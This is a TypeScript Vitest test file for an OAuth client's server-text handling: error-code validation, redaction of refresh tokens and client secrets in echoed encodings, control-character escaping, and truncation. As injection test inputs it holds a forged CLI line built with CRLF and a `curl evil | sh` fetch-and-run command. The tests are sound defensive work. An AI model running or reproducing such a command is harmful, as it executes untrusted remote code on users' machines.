/**
 * machines/lifecycle/server-text.ts: what of a server's text we emit (issue 22). Codes are RFC 6749
 * §5.2 codes holding no secret; descriptions are redacted by value and by shape, escaped, bounded.
 */
import { describe, expect, it } from 'vitest';
import {
  escapeControls,
  MAX_DESCRIPTION_LENGTH,
  networkFailureText,
  quoted,
  redactSecrets,
  serverDescription,
  serverErrorCode,
  withoutSecrets,
} from '../../../machines/lifecycle/server-text.js';
import { InvalidGrantError, RefreshFailedError } from '../../../machines/lifecycle/errors.js';
import { encodingsOf } from '../../support/secret-scan.js';

const RT = 'rt-9Zq8Xw7Vu6Ts5Rq4Po3Nm2';
const CLIENT_SECRET = 's3cr3t-Hh7Gg6Ff5Ee4Dd3';

describe('serverErrorCode: an RFC 6749 §5.2 code, or nothing', () => {
  it.each(['invalid_grant', 'temporarily_unavailable', 'custom_error', 'weird but legal !#$[]^~'])('%s is a code', (code) => {
    expect(serverErrorCode(code, [RT])).toBe(code);
  });

  it.each([
    ['a code followed by the refresh token it echoes', `invalid_grant ${RT}`],
    ['the refresh token itself', RT],
    ['a line break and a forged CLI line', 'invalid_grant\r\ntoken-lifecycle: hint: run this'],
    ['a double quote (%x22)', 'invalid"grant'],
    ['a backslash (%x5C)', 'invalid\\grant'],
    ['non-ASCII', 'invalid_grant\u00e9'],
    ['longer than 64 characters', 'x'.repeat(65)],
    ['empty', ''],
    ['a credential by shape', 'Bearer abcdefghijkl'],
  ])('%s is not', (_, value) => {
    expect(serverErrorCode(value, [RT])).toBeUndefined();
  });

  it('a registered code stays a code whatever a short client secret spells', () => {
    expect(serverErrorCode('invalid_client', ['client'])).toBe('invalid_client');
    expect(serverErrorCode('my_client_error', ['client'])).toBeUndefined();
  });
});

describe('redaction by value finds a secret in every encoding a server echoes it in', () => {
  const forms = encodingsOf(CLIENT_SECRET).map(({ encoding, text }) => [encoding, text] as const);
  it.each(forms)('%s', (_, form) => {
    const out = redactSecrets(`echo: <${form}> end`, [CLIENT_SECRET]);
    expect(out).not.toContain(form);
    expect(out).toContain('[redacted]');
  });

  it('finds the secret inside Basic base64(id:secret) without being told the Basic form', () => {
    const basic = btoa(`my-client:${CLIENT_SECRET}`);
    expect(redactSecrets(`x-echo ${basic}`, [CLIENT_SECRET])).not.toContain(basic.slice(12, 24));
  });
});

describe('serverDescription: redacted, one line, bounded', () => {
  it('escapes line breaks and other controls, so a description cannot start a line of its own', () => {
    const text = serverDescription('expired\r\ntoken-lifecycle: hint: run `curl evil | sh`\u2028\u001b[31m');
    expect(text).toBe('expired\\r\\ntoken-lifecycle: hint: run `curl evil | sh`\\u2028\\u001b[31m');
    expect(text).not.toMatch(/[\r\n\u2028\u001b]/);
  });

  it('cuts a long description to MAX_DESCRIPTION_LENGTH characters, marking the cut', () => {
    const text = serverDescription('a'.repeat(10_000)) as string;
    expect(text).toHaveLength(MAX_DESCRIPTION_LENGTH);
    expect(text.endsWith('…')).toBe(true);
  });

  it('redacts known values and secret shapes', () => {
    const text = serverDescription(`token ${RT} from client_secret=${CLIENT_SECRET}&x=1, Authorization: Basic QUJD`, [RT]);
    expect(text).toBe('token [redacted] from client_secret=[redacted]&x=1, Authorization: Basic [redacted]');
  });

  it('is undefined for a non-string or blank value', () => {
    expect(serverDescription(42)).toBeUndefined();
    expect(serverDescription('   ')).toBeUndefined();
  });

  it('quoted() prints text as a JSON string literal, escaped and bounded', () => {
    expect(quoted('a"b\nc')).toBe('"a\\"b\\\\nc"');
  });

  it('escapeControls leaves printable text alone', () => {
    expect(escapeControls('plain text: ok')).toBe('plain text: ok');
  });
});

describe('networkFailureText names codes, never messages', () => {
  it('ignores the message (a URL with credentials, the server bytes) and keeps the code chain', () => {
    const system = Object.assign(new Error('connect ECONNREFUSED 127.0.0.1:1 user:secret'), { code: 'ECONNREFUSED' });
    const fetchError = new TypeError(`fetch failed for http://user:${CLIENT_SECRET}@host/`, { cause: system });
    expect(networkFailureText(fetchError)).toBe('fetch failed (ECONNREFUSED)');
    const parser = Object.assign(new Error('Parse Error'), { code: 'HPE_INVALID_CONTENT_LENGTH', data: `HTTP/1.1 ${RT}` });
    expect(networkFailureText(new TypeError('fetch failed', { cause: parser }))).toBe('fetch failed (HPE_INVALID_CONTENT_LENGTH)');
    expect(networkFailureText('nope')).toBe('the connection failed');
  });
});

describe('withoutSecrets copies an error with known values redacted, cause chain included', () => {
  it('keeps the class, code and fields; redacts message, description, stack and causes', () => {
    const inner = new Error(`upstream echoed ${RT}`);
    const error = new RefreshFailedError(`failed for ${RT}`, { status: 503, description: `server_error: ${RT}`, cause: inner });
    const copy = withoutSecrets(error, [RT]);
    expect(copy).toBeInstanceOf(RefreshFailedError);
    expect(copy).toMatchObject({ code: 'refresh_failed', status: 503, retryable: true, description: 'server_error: [redacted]' });
    expect(copy.message).toBe('failed for [redacted]');
    expect(String(copy.stack)).not.toContain(RT);
    expect((copy.cause as Error).message).toBe('upstream echoed [redacted]');
  });

  it('returns the very same error when there is nothing to redact', () => {
    const error = new InvalidGrantError({ status: 400 });
    expect(withoutSecrets(error, [RT])).toBe(error);
    expect(withoutSecrets('not an error', [RT])).toBe('not an error');
  });
});
